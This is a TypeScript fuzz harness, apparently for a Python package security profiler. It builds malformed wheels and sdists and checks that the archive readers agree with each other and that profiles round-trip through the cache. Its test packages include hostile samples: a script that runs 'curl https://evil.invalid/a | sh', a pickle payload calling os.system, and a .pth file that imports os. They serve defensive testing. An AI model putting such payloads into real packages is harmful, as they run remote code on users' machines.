/**
 * Opens and profiles damaged and contradictory distributions, and tells where a reader throws, takes long, or sees something else
 * than another reader without a word:
 *
 *   npm run fuzz:distributions -- [--seconds 600] [--seed N] [--only INDEX]
 */
import { gunzipSync } from 'node:zlib';
import { sdist } from '../../__tests__/support/sdist.js';
import { buildTar, gzip } from '../../__tests__/support/tar.js';
import { type BuiltDistribution, wheel } from '../../__tests__/support/wheel.js';
import { zipOf } from '../../__tests__/support/zip.js';
import type { Archive } from '../../src/artifacts/archive.js';
import { openArchive } from '../../src/artifacts/open.js';
import { openWheelByRange } from '../../src/artifacts/range.js';
import { createGrammar } from '../../src/host/grammar.js';
import { kindOfDistribution } from '../../src/model/distributions.js';
import { found } from '../../src/model/fetched.js';
import { decodeProfile, encodeProfile } from '../../src/profile/codec.js';
import { profileDistribution } from '../../src/profile/profile.js';
import { createPythonReader } from '../../src/python/reader.js';
import { mutateBytes } from './bytes.js';
import { contentsByOthers } from './other-readers.js';
import { pythonSource } from './python-source.js';
import { type Random, randomOf } from './random.js';
import { fuzz, type Input, inputSeed } from './watch.js';

function make(seed: number, index: number): Input {
  const random = randomOf(inputSeed(seed, index));
  const { filename, bytes } = distribution(random);
  if (random.chance(0.1)) return { path: filename, bytes };
  const other = distribution(random).bytes;
  // Behind compression a flipped bit is only ever a damaged stream; what the tar says is changed before it is packed.
  if (filename.endsWith('.tar.gz') && random.chance(0.8))
    return {
      path: filename,
      bytes: gzip(mutateBytes(gunzipSync(bytes), buildTar([{ path: 'x/a.py', content: 'a' }]), random)),
    };
  return { path: filename, bytes: mutateBytes(bytes, other, random) };
}

function distribution(random: Random): BuiltDistribution {
  const files = {
    'demo/__init__.py': pythonSource(random),
    'demo/a.py': pythonSource(random),
    ...(random.chance(0.3) ? { 'demo/tool.pyz': zipOf({ '__main__.py': pythonSource(random) }) } : {}),
    ...(random.chance(0.3) ? { 'demo.pth': `import os; ${pythonSource(random)}` } : {}),
    ...(random.chance(0.3) ? { 'demo/run.sh': 'curl https://evil.invalid/a | sh\n' } : {}),
    ...(random.chance(0.3) ? { 'demo/m.pkl': Buffer.from('cos\nsystem\n(S"echo"\ntR.', 'latin1') } : {}),
    ...(random.chance(0.3) ? { 'demo/x.png': Buffer.from('89504e470d0a1a0a0000000049454e44ae426082', 'hex') } : {}),
  };
  switch (random.below(3)) {
    case 0:
      return wheel(files, { entryPoints: '[console_scripts]\ndemo = demo.a:main\n' });
    case 1:
      return sdist({ ...files, 'setup.py': pythonSource(random) });
    default:
      return sdist({ ...files, 'setup.py': pythonSource(random) }, { format: 'zip' });
  }
}

function memberFaults({ members, anomalies }: Archive): readonly string[] {
  const told = anomalies.some(({ kind }) => kind === 'unsafe-path');
  const wrong = members.find(
    ({ path, bytes, sha256, size }) =>
      (path === '' && !told) || (bytes === null) !== (sha256 === null) || (bytes !== null && bytes.length !== size),
  );
  return wrong === undefined
    ? []
    : [`lists ${JSON.stringify(wrong.path)} with ${wrong.size} bytes that do not fit what was read`];
}

const isClean = ({ anomalies, unread }: Archive): boolean => anomalies.length === 0 && unread.length === 0;

const contentsOf = ({ members }: Archive): string =>
  JSON.stringify(members.map(({ path, sha256 }) => [path, sha256]).toSorted());

/** Where nothing is odd and nothing unread, every other reader sees the same, or nothing at all. */
async function contradictions(archive: Archive, { path, bytes }: Input): Promise<readonly string[]> {
  if (!isClean(archive)) return [];
  const others = await contentsByOthers(bytes, path);
  return others === null || others === contentsOf(archive)
    ? []
    : ['another reader sees other contents, and nothing was told'];
}

async function rangeFaults(archive: Archive, { path, bytes }: Input): Promise<readonly string[]> {
  if (!path.endsWith('.whl')) return [];
  const read = async (first: number, last: number) => found(bytes.subarray(first, last + 1));
  const byRange = await openWheelByRange({ size: bytes.length, read }, () => true, { mergeWithin: 0 });
  if (byRange.kind !== 'found') return isClean(archive) ? ['cannot be read by range'] : [];
  return isClean(archive) && contentsOf(byRange.value) !== contentsOf(archive) ? ['gives other contents by range'] : [];
}

await fuzz(import.meta.url, async () => {
  const reader = await createPythonReader(createGrammar());
  return {
    make,
    faultsOf: async (input) => {
      const archive = await openArchive(input.bytes, input.path);
      const kind = kindOfDistribution(input.path);
      const profile = profileDistribution({ archive, artifact: input.path, kind, sha256: null }, reader);
      const kept = decodeProfile(encodeProfile(profile));
      return [
        ...memberFaults(archive),
        ...(await contradictions(archive, input)),
        ...(await rangeFaults(archive, input)),
        ...(JSON.stringify(kept) === JSON.stringify(profile) ? [] : ['its profile does not come back from the cache']),
      ];
    },
  };
});
